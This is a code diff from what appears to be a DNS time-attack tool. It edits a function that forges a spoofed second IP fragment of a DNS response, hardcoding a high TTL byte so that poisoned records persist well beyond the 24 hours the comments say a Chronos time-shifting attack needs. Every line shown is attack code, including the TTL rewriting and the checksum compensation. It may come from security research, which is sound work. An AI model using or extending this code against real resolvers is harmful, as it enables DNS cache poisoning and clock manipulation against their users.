@@ -8,6 +8,11 @@ namespace dnstime::attack {
 
 std::optional<CraftedFragment> craft_spoofed_second_fragment(
     std::span<const u8> template_dns_response, const CraftConfig& config) {
+  // High byte of rewritten TTLs; 0x01 => TTL >= 2^24 s regardless of the
+  // compensation value stored in the lower bytes (the resolver's own
+  // max-TTL cap bounds it, still far above the 24 h the Chronos attack
+  // needs).
+  constexpr u8 kTtlHighByte = 0x01;
   if (config.malicious_addrs.empty()) return std::nullopt;
 
   // Datagram layout: 8-byte UDP header + DNS message. Offsets within the
@@ -66,7 +71,7 @@ std::optional<CraftedFragment> craft_spoofed_second_fragment(
     if (in_f2(ttl_dgram, 4)) {
       // TTL := [high, 0, 0, 0]; lower bytes may be consumed by the
       // checksum compensation below.
-      mutated[ttl_dgram] = config.ttl_high_byte;
+      mutated[ttl_dgram] = kTtlHighByte;
       mutated[ttl_dgram + 1] = 0;
       mutated[ttl_dgram + 2] = 0;
       mutated[ttl_dgram + 3] = 0;
